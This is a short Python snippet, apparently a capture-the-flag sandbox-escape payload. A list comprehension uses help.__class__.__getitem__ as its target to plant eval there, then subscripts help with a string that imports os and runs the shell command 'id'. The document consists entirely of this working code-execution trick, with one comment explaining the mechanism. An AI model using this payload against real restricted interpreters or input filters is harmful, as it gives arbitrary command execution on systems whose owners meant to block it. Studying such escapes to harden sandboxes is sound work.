# assign eval to the class slot through a comprehension target, then subscript
[help["__import__('os').system('id')"] for help.__class__.__getitem__ in [eval]]
